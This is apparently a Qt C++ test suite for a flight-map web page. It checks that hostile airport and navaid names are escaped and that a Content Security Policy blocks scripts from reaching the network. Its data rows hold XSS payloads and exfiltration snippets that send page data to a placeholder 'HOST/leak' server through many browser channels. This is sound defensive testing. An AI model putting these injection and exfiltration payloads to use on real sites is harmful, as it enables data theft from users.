// Names as a hostile update file may bring them: wherever the page shows a name it stands there as text, and what a
// script in the page asks of the network or of the disk does not get there.
#include "samplechart.h"

#include <QFile>
#include <QTcpServer>
#include <QTcpSocket>
#include <QWebFrame>
#include <QtTest>

namespace {

/// A text as a script writes it, so that it arrives as it is.
QString quoted(const QString& text)
{
    QString result = "\"";
    for (const QChar letter : text) {
        const bool isPlain = letter.unicode() >= 32 && letter.unicode() < 127 && letter != '"' && letter != '\\';
        result += isPlain ? QString(letter) : QString("\\u%1").arg(int(letter.unicode()), 4, 16, QLatin1Char('0'));
    }
    return result + "\"";
}

/// A server on this machine that whatever escapes from the page would reach. Its own page allows everything; what is
/// asked of it from there is counted and not found, so that the engine starts no thread for a worker whose page is
/// gone a moment later.
class OutsideServer : public QTcpServer
{
public:
    OutsideServer()
    {
        listen(QHostAddress::LocalHost);
        connect(this, &QTcpServer::newConnection, this, [this] {
            QTcpSocket* socket = nextPendingConnection();
            ++connections;
            connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
                const bool isLeak = socket->readAll().split('\n').constFirst().contains("/leak");
                leaks += isLeak ? 1 : 0;
                const QByteArray html =
                    "<html><head><meta http-equiv='Content-Security-Policy' content=\"default-src * ws: "
                    "'unsafe-inline' 'unsafe-eval'\"></head><body></body></html>";
                const QByteArray answer = isLeak ? "404 Not Found" : "200 OK";
                socket->write("HTTP/1.1 " + answer +
                              "\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: " +
                              QByteArray::number(html.size()) + "\r\n\r\n" + html);
                socket->disconnectFromHost();
            });
        });
    }
    QString host() const
    {
        return "http://127.0.0.1:" + QString::number(serverPort());
    }
    int connections = 0;
    int leaks = 0;
};

const QString place = QStringLiteral("new google.maps.LatLng(46.50000,2.50000)");
const QString otherPlace = QStringLiteral("new google.maps.LatLng(46.60000,2.90000)");

} // namespace

class TestPageHostile : public QObject
{
    Q_OBJECT

private slots:
    void init()
    {
        window.reset();
        program.reset(new FullProgramSide);
        window.reset(new PageWindow(program.data()));
        QVERIFY(window->load());
        window->run("map.setCenter(new google.maps.LatLng(46.50000,2.50000));map.setZoom(8);"
                    "var reached = 0;");
        before = elements();
        window->requests.clear();
    }

    void everyNameIsText_data();
    void everyNameIsText();
    void anEndlessNameIsShownByItsStart();
    void theAttributionOfTheTilesIsText();
    void aScriptDoesNotReachTheNetwork_data();
    void aScriptDoesNotReachTheNetwork();
    void theEnglishPageHasThePolicyToo();

private:
    QScopedPointer<ProgramSide> program;
    QScopedPointer<PageWindow> window;
    int before = 0;

    /// How many elements that load, run or lead somewhere are in the page.
    int elements()
    {
        return window->run("document.querySelectorAll('img,script,iframe,object,embed,a[href],style,link,svg').length")
            .toInt();
    }
    void showEverywhere(const QString& name);
    void lookEverywhere();
};

void TestPageHostile::everyNameIsText_data()
{
    QTest::addColumn<QString>("name");

    QTest::newRow("picture") << "<img src=x onerror='reached=1'>";
    QTest::newRow("picture behind an element's end") << "</b></font></div><img src=x onerror='reached=1'>";
    QTest::newRow("script") << "<script>reached=1</script>";
    QTest::newRow("end of a script") << "</script><script>reached=1</script>";
    QTest::newRow("end of a comment") << "--><img src=x onerror='reached=1'>";
    QTest::newRow("quotes") << "A\"B'C`D";
    QTest::newRow("end of an argument") << "\");reached=1;(\"";
    QTest::newRow("backslashes") << "A\\B\\\\";
    QTest::newRow("line ends of scripts") << QString("A") + QChar(0x2028) + "B" + QChar(0x2029) + "C";
    QTest::newRow("line ends") << "A\nB\rC\tD";
    QTest::newRow("NUL") << QString("A") + QChar(0) + "B";
    QTest::newRow("half a pair") << QString("A") + QChar(0xd800) + "B";
    QTest::newRow("places of values") << "%1 %2 %n {z} ${reached=1} $& $1";
    QTest::newRow("property names") << "__proto__";
    QTest::newRow("entities") << "&lt;img src=x onerror=reached=1&gt;&amp;";
    QTest::newRow("empty") << "";
    QTest::newRow("100 kB") << QString("<b>").repeated(20000) + QString("x").repeated(40000);
}

/// Gives the name to every function of the page that takes one.
void TestPageHostile::showEverywhere(const QString& name)
{
    const QString text = quoted(name);
    const QString html =
        quoted("<font color=blue><b>Airport " + name + "</b><font color=black><br/>" + name + "<br/>x");
    const QString marker = QString("(%1,%2,1,%3);").arg(place, text, html);
    for (const char* function : {"addAPTMarker", "addVORMarker", "addNDBMarker", "addWPTMarker"})
        window->run(function + marker);
    window->run("pushAPT();addNavMgr();addWptMgr();ArptMgr.addMarkers(listApt);VORMgr.addMarkers(listVOR);"
                "WPTRteMgr.addMarkers(listWptRte)");
    for (const char* function : {"addVORMarker2", "addNDBMarker2", "addWPTMarker2"})
        window->run(function + marker);
    for (const char* point : {"addPointToFp", "addPointToSS"})
        window->run(QString("%1(%2,%3);%1(%4,%3)").arg(point, place, text, otherPlace));
    window->run("pushFP();");
    window->run(QString("addSitMarker(%1,%2, 90);addAcftMrkr(%1,%2,45);").arg(otherPlace, text));
    window->run(QString("addATS(%1);addToATS(%2),%1;addToATS(%3),%1;showATS('B',1)").arg(text, place, otherPlace));
}

/// Lets the user see it: labels, the box at the pointer, pop-up, menu with its submenus, measure.
void TestPageHostile::lookEverywhere()
{
    window->run("map.setZoom(10)");
    window->settle();
    window->mouse->moveTo({5, 300});
    window->mouse->moveTo(window->mouse->pointOf(46.5, 2.5));
    QTRY_VERIFY_WITH_TIMEOUT(!window->run("document.getElementById('tooltip').hidden").toBool(), 20000);
    window->click(46.5, 2.5);
    QVERIFY(!window->popupText().isEmpty());
    QVERIFY(!window->menuAt(46.5, 2.5).isEmpty());
    window->closeMenu();
    window->run("page.startMeasure(listApt[0].getPosition(), listApt[0].getTitle());"
                "page.measureTo(new google.maps.LatLng(46.6, 2.9), listApt[0].getTitle())");
    window->settle();
}

void TestPageHostile::everyNameIsText()
{
    QFETCH(QString, name);
    showEverywhere(name);
    QCOMPARE(window->run("listApt[0].getTitle()").toString(), name);
    QCOMPARE(window->run("listApt.length + listVOR.length + listNDBRte.length + listWptRte.length").toInt() >= 4, true);
    lookEverywhere();
    QCOMPARE(window->run("reached").toInt(), 0);
    QCOMPARE(elements(), before);
    QCOMPARE(window->requests, QList<QUrl>());
    QCOMPARE(window->run("String(({}).reached)").toString(), QString("undefined"));
}

/// The layout takes the square of a word's length: a name of a million letters would keep it for an hour.
void TestPageHostile::anEndlessNameIsShownByItsStart()
{
    const QString ident(5000, 'I');
    const QString html = "<font color=blue><b>VOR " + ident + "</b><font color=black><br/>" + QString(5000, 'M') +
                         QString("<br/>N").repeated(500) + "<br/>114.7 Mhz<br/>x";
    window->run(QString("addVORMarker(%1,%2,1,%3);addNavMgr();VORMgr.addMarkers(listVOR);map.setZoom(10)")
                    .arg(place, quoted(ident + "-K1FR"), quoted(html)));
    window->settle();
    const QStringList shown{"VOR " + QString(996, 'I') + "…", QString(1000, 'M') + "…"};
    const QString textsOf = "Array.from(document.querySelectorAll('%1')).map(line => line.textContent)";
    window->mouse->moveTo({5, 300});
    window->mouse->moveTo(window->mouse->pointOf(46.5, 2.5));
    QTRY_VERIFY_WITH_TIMEOUT(!window->run("document.getElementById('tooltip').hidden").toBool(), 20000);
    const QStringList box = window->run(textsOf.arg("#tooltip > div")).toStringList();
    QCOMPARE(box.mid(0, 2), shown);
    QCOMPARE(box.size(), 11);
    QVERIFY(!window->menuAt(46.5, 2.5).isEmpty());
    QCOMPARE(window->run(textsOf.arg(".menu-head, .menu-line")).toStringList().mid(0, 2), shown);
    window->closeMenu();
    // By the whole name the program finds the row.
    QCOMPARE(window->run("listVOR[0].getTitle()").toString(), ident + "-K1FR");
    QCOMPARE(window->run("page.identOf(listVOR[0])").toString(), ident);
}

void TestPageHostile::theAttributionOfTheTilesIsText()
{
    window->run("mapService.tileAddress = 'none/{z}'; mapService.tileAttribution = '<img src=x onerror=reached=1>';");
    QFile script(QCoreApplication::applicationDirPath() + "/maps/page/tiles.js");
    QVERIFY(script.open(QIODevice::ReadOnly));
    window->run(QString::fromUtf8(script.readAll()).replace("map.overlayMapTypes.push(tiles);", ""));
    QTRY_COMPARE_WITH_TIMEOUT(samplechart::texts(*window, ".attribution"), QStringList{"<img src=x onerror=reached=1>"},
                              20000);
    QCOMPARE(elements(), before);
    QCOMPARE(window->run("reached").toInt(), 0);
}

void TestPageHostile::aScriptDoesNotReachTheNetwork_data()
{
    QTest::addColumn<QString>("script");

    const QString element = "var e = document.createElement('%1'); e.%2 = 'HOST/leak'; document.body.appendChild(e)";
    QTest::newRow("picture") << "new Image().src = 'HOST/leak?' + document.title";
    QTest::newRow("script") << element.arg("script", "src");
    QTest::newRow("frame") << element.arg("iframe", "src");
    QTest::newRow("object") << element.arg("object", "data");
    QTest::newRow("embedded") << element.arg("embed", "src");
    QTest::newRow("style sheet")
        << "var e = document.createElement('link'); e.rel = 'stylesheet'; e.href = 'HOST/leak'; "
           "document.head.appendChild(e)";
    QTest::newRow("fetched ahead")
        << "var e = document.createElement('link'); e.rel = 'prefetch'; e.href = 'HOST/leak'; "
           "document.head.appendChild(e)";
    QTest::newRow("background") << "document.body.style.backgroundImage = 'url(HOST/leak)'";
    QTest::newRow("letters")
        << "var e = document.createElement('style'); e.textContent = \"@font-face{font-family:x;"
           "src:url('HOST/leak')}\"; document.head.appendChild(e); e = document.createElement('p'); "
           "e.textContent = 'A'; e.style.fontFamily = 'x'; document.body.appendChild(e)";
    QTest::newRow("request") << "var r = new XMLHttpRequest(); r.open('POST', 'HOST/leak', true); r.send('x')";
    QTest::newRow("events") << "new EventSource('HOST/leak')";
    QTest::newRow("socket") << "new WebSocket('HOST/leak'.replace('http', 'ws'))";
    QTest::newRow("worker") << "new Worker('HOST/leak')";
    QTest::newRow("form") << "var f = document.createElement('form'); f.action = 'HOST/leak'; f.method = 'post'; "
                             "document.body.appendChild(f); f.submit()";
    QTest::newRow("another page") << "location.href = 'HOST/leak'";
    QTest::newRow("policy taken away") << "document.querySelector('meta[http-equiv]').remove(); new Image().src = "
                                          "'HOST/leak'";
    QTest::newRow("a frame of its own making")
        << "var e = document.createElement('iframe'); document.body.appendChild(e)"
           "; e.contentDocument.write('<img src=HOST/leak>')";
}

void TestPageHostile::aScriptDoesNotReachTheNetwork()
{
    QFETCH(QString, script);
    OutsideServer server;
    script.replace("HOST", server.host());
    {
        // What guards the map page is away: there the script gets through.
        QWebView unguarded;
        QSignalSpy loaded(&unguarded, &QWebView::loadFinished);
        unguarded.load(QUrl(server.host() + "/"));
        QTRY_VERIFY_WITH_TIMEOUT(!loaded.isEmpty(), 20000);
        unguarded.page()->mainFrame()->evaluateJavaScript(script);
        QTRY_VERIFY_WITH_TIMEOUT(server.leaks > 0, 20000);
    }
    server.connections = 0;
    // The engine tells each refusal, or throws.
    window->page->expectFault("Refused to");
    window->page->expectFault("SecurityError: DOM Exception 18");
    window->run(script);
    QTest::qWait(150);
    window->settle();
    QCOMPARE(server.connections, 0);
    QCOMPARE(window->run("typeof map.getZoom()").toString(), QString("number"));
}

void TestPageHostile::theEnglishPageHasThePolicyToo()
{
    QVERIFY(window->load("gm_trajector_en.html"));
    QCOMPARE(window->run("document.querySelectorAll('head > meta[http-equiv=Content-Security-Policy]').length").toInt(),
             1);
}

QTEST_MAIN(TestPageHostile)
#include "tst_pagehostile.moc"
